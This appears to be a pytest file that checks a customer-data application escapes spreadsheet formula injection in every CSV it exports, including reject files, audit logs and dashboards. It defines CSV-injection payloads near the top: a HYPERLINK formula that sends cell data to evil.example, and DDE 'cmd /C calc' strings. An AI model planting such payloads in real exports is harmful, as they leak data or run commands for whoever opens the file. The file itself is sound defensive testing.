"""Hostile text through every CSV Siyu writes: segment exports, the audit log, import rejects
(and their rewrite on erasure), the dashboard and the demo's export files. Read back, no cell a
spreadsheet would evaluate; and a fixed rejects file imports as it was exported."""

from __future__ import annotations

import csv
from datetime import date, datetime, time
from decimal import Decimal
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import sqlalchemy as sa

from siyu import csvsafe
from siyu.accounts.queries import AuditFilter, audit_csv
from siyu.accounts.service import cli_principal, record_audit
from siyu.customers.models import Customer, Identity
from siyu.ingest.orders import import_orders
from siyu.metrics.export import overview_csv
from siyu.privacy.service import erase_person
from siyu.segments.queries import export_members
from siyu.segments.service import create_static_segment
from tests import platform_files as pf
from tests import shop

LINK = '=HYPERLINK("http://evil.example/?d="&A1,"查看")'
CMD = "+cmd|' /C calc'!A0"
SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
ARITH = "-2+3"
TAB = "\t=1+1"
WIDE = "＝1+1"
HOSTILE = [LINK, CMD, SUM, ARITH, TAB, WIDE]


def evaluable(cell: str) -> bool:
    return bool(cell) and cell[0] != "'" and csvsafe.dangerous(cell)


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(text.splitlines(keepends=True)))


def is_number(cell: str) -> bool:
    try:
        Decimal(cell)
    except ArithmeticError:
        return False
    return True


def assert_guarded(rows: list[list[str]]) -> None:
    """No cell a spreadsheet would evaluate, except plain numbers (Siyu writes a negative
    amount as a number, and a number is what the spreadsheet makes of it)."""
    bad = [
        (r, c, cell)
        for r, row in enumerate(rows)
        for c, cell in enumerate(row)
        if evaluable(cell) and not is_number(cell)
    ]
    assert not bad, bad


def test_segment_export_guards_names_cities_sources_and_phones(session, tmp_path: Path) -> None:
    people = []
    for k, text in enumerate(HOSTILE):
        c = Customer(name=text, city=HOSTILE[-1 - k][:32], source=text[:20])
        session.add(c)
        session.flush()
        shop.phone(session, c.id, f"+861395712{4600 + k}")
        people.append(c.id)
    seg, missing = create_static_segment(
        session, "危险名单", phones=[f"1395712{4600 + k}" for k in range(len(HOSTILE))], actor="t"
    )
    assert not missing
    principal = cli_principal(session, "tester", None)
    out = tmp_path / "seg.csv"
    assert export_members(session, principal, seg.id, out, unmask=True) == len(HOSTILE)
    rows = cells(out.read_text(encoding="utf-8-sig"))
    assert_guarded(rows)
    names = {csvsafe.unquote(r[1]) for r in rows[1:]}
    assert names == set(HOSTILE)  # whole, behind the quote prefix
    assert {r[2] for r in rows[1:]} == {f"'+861395712{4600 + k}" for k in range(len(HOSTILE))}
    masked = tmp_path / "masked.csv"
    export_members(session, principal, seg.id, masked)
    assert_guarded(cells(masked.read_text(encoding="utf-8-sig")))


def test_audit_csv_guards_actor_target_and_details(session) -> None:
    for text in HOSTILE:
        record_audit(session, text, "customer.unmask", text[:32], text, {"note": text})
    session.commit()
    sheet, n = audit_csv(session, AuditFilter(action="customer."), ZoneInfo("Asia/Shanghai"))
    assert n == len(HOSTILE)
    rows = cells(sheet)
    assert_guarded(rows)
    assert [csvsafe.unquote(r[2]) for r in rows[1:]] == HOSTILE
    assert [csvsafe.unquote(r[5]) for r in rows[1:]] == HOSTILE


def _hostile_orders(tmp_path: Path) -> Path:
    return pf.taobao(
        tmp_path / "tb.csv",
        [
            pf.taobao_row("7001", "-熊猫-", "+86 139 5712 4680", "bad", name=LINK),
            pf.taobao_row("7002", "@小明", "13957124681", "bad", name=CMD, status=SUM),
            pf.taobao_row("7003", "ok_buyer", "13957124682", "10.00"),
        ],
    )


def test_rejects_file_is_guarded_and_imports_again_once_fixed(engine, settings, tmp_path: Path):
    s = import_orders(engine, settings, _hostile_orders(tmp_path), "taobao", actor="t")
    assert s.inserted == 1 and s.rejected_total == 2
    rejects = Path(s.rejects_path or "")
    rows = cells(rejects.read_text(encoding="utf-8-sig"))
    assert_guarded(rows)
    flat = [c for r in rows for c in r]
    assert "'" + LINK in flat and "'-熊猫-" in flat and "'+86 139 5712 4680" in flat

    # the operator fixes the amounts in a text editor (the quote prefixes stay) and imports
    # the file again: it imports as it was exported
    header, body = rows[0], rows[1:]
    amount = header.index("买家实际支付金额")
    fixed = tmp_path / "fixed.csv"
    with fixed.open("w", encoding="utf-8-sig", newline="") as fh:
        w = csv.writer(fh)  # the editor writes what it was given
        w.writerow(header)
        for r in body:
            r = list(r)
            for col, cell in enumerate(r):
                if cell == "bad":
                    r[col] = "59.00"
            assert r[amount] == "59.00"
            w.writerow(r)
    again = import_orders(engine, settings, fixed, "taobao", actor="t")
    assert again.inserted == 1 and again.rejected_total == 1, again.as_dict()
    assert any("order status" in r for r in again.rejected)  # 7002's status was the formula
    with engine.connect() as conn:
        name = conn.scalar(
            sa.select(Customer.name)
            .join(Identity, Identity.customer_id == Customer.id)
            .where(Identity.kind == "buyer_id", Identity.value == "-熊猫-")
        )
        phone = conn.scalar(sa.select(Identity.value).where(Identity.value == "+8613957124680"))
    assert name == LINK and phone == "+8613957124680"


def test_erasure_rewrites_the_rejects_file_with_the_guard_kept(
    engine, settings, session, tmp_path: Path
):
    folder = settings.data_dir / "rejects"
    folder.mkdir(parents=True)
    # a rejects file written before the guard existed gets it on its next rewrite
    old = folder / "import-0-old.rejects.csv"
    with old.open("w", encoding="utf-8-sig", newline="") as fh:
        csv.writer(fh).writerows(
            [["行号 line", "原因 reason", "名"], ["2", "x", LINK], ["3", "y", "13957124682"]]
        )
    orders = pf.taobao(
        tmp_path / "tb.csv",
        [
            pf.taobao_row("7001", "-熊猫-", "+86 139 5712 4680", "bad", name=LINK),
            pf.taobao_row("7003", "ok_buyer", "13957124682", "10.00"),
            pf.taobao_row("7004", "ok_buyer", "13957124682", "bad", name=SUM),
        ],
    )
    s = import_orders(engine, settings, orders, "taobao", actor="t")
    assert s.inserted == 1 and s.rejected_total == 2
    rejects = Path(s.rejects_path or "")
    before = cells(rejects.read_text(encoding="utf-8-sig"))
    erase_person(session, settings, "13957124682", actor="t")
    session.commit()
    after = cells(rejects.read_text(encoding="utf-8-sig"))
    # the erased buyer's row is gone; the other keeps its one quote prefix, cell for cell
    assert after == [before[0], before[1]] and "'" + LINK in after[1]
    assert cells(old.read_text(encoding="utf-8-sig")) == [
        ["行号 line", "原因 reason", "名"],
        ["2", "x", "'" + LINK],
    ]


def _overview(settings: Any, session: Any) -> dict[str, Any]:
    from siyu.analytics.service import refresh_copy
    from siyu.brands.models import Store
    from siyu.metrics.service import overview

    b = shop.brand(session, "b1")
    store = Store(brand_id=b, code=ARITH, name=LINK, city="上海")
    session.add(store)
    session.flush()
    for day, yuan in ((date(2026, 10, 5), 300), (date(2026, 11, 5), 100)):
        person = session.get(Customer, shop.customer(session))
        person.store_id, person.source = store.id, CMD
        person.first_seen_at = datetime.combine(day, time(12), shop.SHANGHAI)
        shop.order(session, b, person.id, day, yuan)
    session.commit()
    refresh_copy(settings)
    return overview(settings, date(2026, 11, 1), date(2026, 11, 30))


def test_dashboard_csv_guards_names_and_keeps_negative_numbers_numbers(settings, session):
    o = _overview(settings, session)
    assert o["new_by_store"][0]["name"] == LINK
    # what the database side adds (live codes, campaigns) carries hostile names too
    o["new_by_live_code"] = [{"name": SUM, "channel": TAB, "added": 2, "lost": 1}]
    o["reach"]["campaigns"] = [
        {
            "name": WIDE,
            "channel": "sms",
            "sent": 3,
            "revenue_fen": -1250,
            "incremental_revenue_fen": -1250,
            "cost_fen": 100,
            "roi": -12.5,
        }
    ]
    rows = cells(overview_csv(o))
    flat = [c for r in rows for c in r]
    assert "'" + LINK in flat and "'" + ARITH in flat and "'" + SUM in flat and "'" + WIDE in flat
    assert "'" + CMD[:20] in flat  # a source as imported
    # numbers Siyu computed stay numbers: a negative amount is not turned into text
    campaign = next(r for r in rows if r and csvsafe.unquote(r[0]) == WIDE)
    assert campaign[3:] == ["-12.50", "-12.50", "1.00", "-12.5"]
    kpis = {r[1]: r for r in rows if len(r) == 5}
    assert Decimal(kpis["revenue"][4]) < 0  # the delta: November sold less than October
    assert_guarded(rows)


def test_demo_export_files_are_guarded(tmp_path: Path) -> None:
    from siyu.demo.generate import BENCH_AS_OF, generate

    generate(60, 7, tmp_path / "demo", as_of=BENCH_AS_OF)
    files = sorted((tmp_path / "demo").glob("*.csv"))
    assert len(files) >= 5
    for f in files:
        text = f.read_bytes().decode("gb18030" if f.name.startswith("taobao") else "utf-8-sig")
        assert_guarded(cells(text))
